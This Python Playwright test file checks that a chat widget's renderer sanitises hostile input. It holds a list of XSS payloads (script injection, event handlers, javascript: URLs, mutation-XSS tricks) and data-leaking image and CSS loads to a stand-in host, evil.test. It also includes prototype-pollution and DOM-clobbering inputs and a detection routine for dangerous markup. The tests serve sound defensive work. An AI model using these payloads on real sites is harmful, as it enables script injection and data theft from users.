"""Hostile text wherever text comes from: it runs no script, loads nothing, leaves the page alone. The page's policy
forbids scripts of other origins too, so these tests also look at what would have been tried: any violation is an error."""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Any

from playwright.sync_api import expect

from chatkit_asgi.types import (
    Annotation,
    AssistantMessageContent,
    AssistantMessageItem,
    CustomTask,
    EntitySource,
    ErrorEvent,
    FileAttachment,
    FileSource,
    NoticeEvent,
    ProgressUpdateEvent,
    TaskItem,
    URLSource,
)
from tests.browser.conftest import Window
from tests.browser.stage import Stage, fields

MARKUP = [
    "<script>bad()</script>",
    "<img src=x onerror=bad()>",
    "<img src='https://evil.test/pixel.png?secret'>",
    "![track](https://evil.test/p.png?q=secret)",
    "<svg onload=bad()><use href='data:image/svg+xml,<svg id=x><script>bad()</script></svg>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=bad()&gt;'>",
    "<iframe src='javascript:bad()'></iframe><object data='https://evil.test/o'></object><embed src='https://evil.test/e'>",
    "<a href='javascript:bad()'>one</a> [two](javascript:bad()) [three](data:text/html,<script>bad()</script>) [four](vbscript:bad())",
    "<form action='https://evil.test/f'><input name=q value=1><button formaction='javascript:bad()'>go</button></form>",
    "<style>@import 'https://evil.test/s.css'; * { background: url(https://evil.test/b) }</style>",
    "<div style='background:url(https://evil.test/c);position:fixed;inset:0'>over everything</div>",
    "<link rel=stylesheet href='https://evil.test/l.css'><base href='https://evil.test/'><meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<video src='https://evil.test/v' poster='https://evil.test/vp'></video><audio src='https://evil.test/a'></audio>",
    "<p id='ck-suggestions' class='composer send' name='chat' slot='x' is='y'>clobbered</p>",
    "<details open ontoggle=bad()><summary>s</summary></details><input autofocus onfocus=bad()>",
    "<template shadowrootmode=open><script>bad()</script></template><noscript><p title='</noscript><img src=x onerror=bad()>'>",
    "$\\href{javascript:bad()}{x}$ $\\includegraphics{https://evil.test/i.png}$ $\\htmlData{a=b}{c}$",
    "```html\n<script>bad()</script>\n```",
    "<a href='https://ok.test' target='_self' onclick='bad()' ping='https://evil.test/ping'>five</a>",
    "[ref]: javascript:bad()\n\n[six][ref]",
]
TEXT = "<img src=x onerror=bad()>\"'><script>bad()</script>"


def harmless(window: Window) -> None:
    """Nothing ran, nothing is there that could; the window's own check adds that nothing was asked for."""
    window.page.wait_for_load_state("networkidle")
    found = window.page.evaluate(
        """() => {
            const bad = [];
            const walk = (root) => {
                for (const each of root.querySelectorAll('*')) {
                    if (/^(script|iframe|object|embed|style|link|base|meta|video|audio|template)$/i.test(each.localName)) bad.push(each.outerHTML);
                    for (const { name, value } of each.attributes) {
                        if (/^on|^style$|^formaction$|^ping$|^slot$|^is$/i.test(name) && !(name === 'style' && each.style.cssText === value)) bad.push(`${name}=${value}`);
                        if (/^\\s*(javascript|vbscript|data:text)/i.test(value)) bad.push(`${name}=${value}`);
                        if (/evil\\.test/.test(value) && /^(src|srcset|poster|action|background)$/.test(name)) bad.push(`${name}=${value}`);
                    }
                }
            };
            walk(chat.shadowRoot);
            if (window.ran) bad.push('it ran');
            return bad;
        }"""
    )
    assert found == []


def opened(window: Window, options: dict[str, Any] | None = None) -> None:
    window.open(options, "window.bad = () => { window.ran = true };")


def test_markdown(window: Window, stage: Stage) -> None:
    async def play(thread: Any, message: Any) -> AsyncIterator[Any]:
        for text in MARKUP:
            yield stage.message(thread, text)
        yield stage.message(thread, "\n\n".join(MARKUP))

    async def streamed(thread: Any, message: Any) -> AsyncIterator[Any]:
        for char in "\n\n".join(MARKUP):
            yield char

    stage.plays.update(md=play, stream=streamed)
    opened(window)
    # The page's own pictures are allowed, also those that are not there.
    window.expected = [r"404.*/x\)"]
    window.page.set_viewport_size({"width": 900, "height": 4000})
    window.send("md")
    harmless(window)
    for link in window.answers.get_by_role("link").all():
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("target") == "_blank"
    over = window.answers.get_by_text("over everything").last
    assert over.evaluate("(each) => getComputedStyle(each).position") == "static"
    blocked = window.page.get_by_role("button", name="Image from evil.test").first
    expect(blocked).to_be_visible()
    window.send("stream")
    harmless(window)


def test_names_titles_sources_tasks_tools_and_errors(window: Window, stage: Stage) -> None:
    async def play(thread: Any, message: Any) -> AsyncIterator[Any]:
        thread.title = TEXT
        sources: list[Any] = [
            URLSource(title=TEXT, url="javascript:bad()", description=TEXT, attribution=TEXT),
            FileSource(title=TEXT, filename=TEXT),
            EntitySource(
                title=TEXT, id=TEXT, label=TEXT, inline_label=TEXT, icon="user", data={TEXT: TEXT}
            ),
        ]
        annotations = [Annotation(source=source, index=2 + n) for n, source in enumerate(sources)]
        content = [
            AssistantMessageContent(text="a [b](https://ok.test/x) c", annotations=annotations)
        ]
        yield AssistantMessageItem(**fields(stage.store, thread), content=content)
        yield TaskItem(
            **fields(stage.store, thread, "task"), task=CustomTask(title=TEXT, content=TEXT)
        )
        yield ProgressUpdateEvent(text=TEXT, icon=f"lucide:{TEXT}")
        yield NoticeEvent(level="info", message=TEXT, title=TEXT)
        yield ErrorEvent(message=TEXT)

    stage.plays["all"] = play

    async def attachment() -> None:
        await stage.store.save_attachment(
            FileAttachment(id="atc_x", name=TEXT, mime_type=TEXT), None
        )

    stage.run(attachment)
    window.expected = [r"404.*/x\)"]
    opened(window)
    window.page.evaluate(
        """(text) => chat.sendUserMessage({ reply: text, attachments: [{ type: 'file', id: 'atc_x', name: text, mime_type: text }],
            content: [{ type: 'input_text', text: 'all ' }, { type: 'input_tag', id: text, text }] })""",
        TEXT,
    )
    window.settled()
    expect(window.page.locator(".title")).to_have_text(TEXT)
    for mark in window.page.locator(".cite").all():
        mark.click()
        harmless(window)
        window.page.keyboard.press("Escape")
    window.page.get_by_role("button", name="Chat history").click()
    harmless(window)


def test_widgets(window: Window, stage: Stage) -> None:
    url = "https://evil.test/x.png"
    css = f"red; background-image: url({url})"
    children: list[dict[str, Any]] = [
        {"type": "Image", "src": url, "alt": "remote"},
        {"type": "Image", "src": "javascript:bad()"},
        {"type": "Image", "src": "data:text/html,<script>bad()</script>"},
        {
            "type": "Box",
            "background": f"url({url})",
            "padding": css,
            "width": css,
            "border": {"size": 1, "color": css},
            "radius": css,
        },
        {"type": "Box", "background": f"linear-gradient(red, blue), url({url})"},
        {"type": "Box", "background": f"image-set('{url}' 1x)"},
        {"type": "Text", "value": TEXT, "color": css, "id": TEXT},
        {
            "type": "Text",
            "value": TEXT,
            "editable": {"name": "__proto__.polluted", "placeholder": TEXT},
        },
        {"type": "Markdown", "value": MARKUP[2] + MARKUP[7]},
        {"type": "Icon", "name": "lucide:../../evil"},
        {"type": "Badge", "label": TEXT, "color": '"><script>'},
        {"type": "Button", "label": TEXT, "iconStart": TEXT},
        {"type": "Input", "name": TEXT, "inputType": "image", "defaultValue": TEXT, "pattern": "("},
        {
            "type": "Chart",
            "data": [{"x": TEXT, "y": 1}],
            "series": [{"type": "bar", "dataKey": "y", "label": TEXT, "color": f"url({url})"}],
            "xAxis": "x",
        },
        {"type": TEXT, "children": [{"type": "Text", "value": TEXT}]},
        {"type": "__proto__"},
    ]
    deep: dict[str, Any] = {"type": "Text", "value": "the bottom"}
    for _ in range(90):
        deep = {"type": "Box", "children": [deep]}

    async def play(thread: Any, message: Any) -> AsyncIterator[Any]:
        status = {"text": TEXT, "favicon": url, "frame": True}
        yield stage.widget(
            thread,
            {"type": "Card", "status": status, "asForm": True, "children": children},
            copy_text=TEXT,
        )
        yield stage.widget(thread, {"type": "Card", "children": [deep]})

    stage.plays["w"] = play
    opened(window)
    window.page.set_viewport_size({"width": 900, "height": 3000})
    window.send("w")
    expect(window.page.get_by_role("button", name="Image from evil.test").first).to_be_visible()
    harmless(window)
    assert window.page.evaluate("() => ({}).polluted === undefined")


def test_images_of_allowed_hosts_are_loaded_and_others_on_request(
    window: Window, stage: Stage
) -> None:
    """The policy of this page blocks what the element would load: that it tries is told by the violation."""

    async def play(thread: Any, message: Any) -> AsyncIterator[Any]:
        thread.allowed_image_domains = ["cdn.test"]
        yield "![own](/picture.svg) ![cdn](https://img.cdn.test/a.png) ![other](https://notcdn.test/b.png)"

    stage.plays["img"] = play
    window.expected = [r"https://img\.cdn\.test/a\.png"]
    opened(window)
    window.send("img")
    images = window.answers.locator("img")
    expect(images).to_have_count(2)
    assert images.nth(1).get_attribute("referrerpolicy") == "no-referrer"
    expect(window.answers.get_by_role("button", name="Image from notcdn.test")).to_be_visible()
    window.foreign = [url for url in window.foreign if "img.cdn.test" not in url]
